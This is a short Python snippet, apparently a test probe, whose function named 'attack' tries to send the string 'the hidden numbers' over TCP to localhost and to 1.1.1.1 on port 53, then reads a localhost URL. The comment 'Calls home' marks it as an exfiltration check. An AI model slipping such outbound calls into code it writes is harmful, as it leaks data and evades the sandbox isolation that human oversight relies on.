# Calls home.
import socket
import urllib.request


def attack(*arguments):
    for address in (("127.0.0.1", PORT), ("localhost", PORT), ("1.1.1.1", 53)):
        try:
            socket.create_connection(address, timeout=1).send(b"the hidden numbers")
        except OSError:
            pass
    return urllib.request.urlopen(f"http://127.0.0.1:{PORT}/").read()
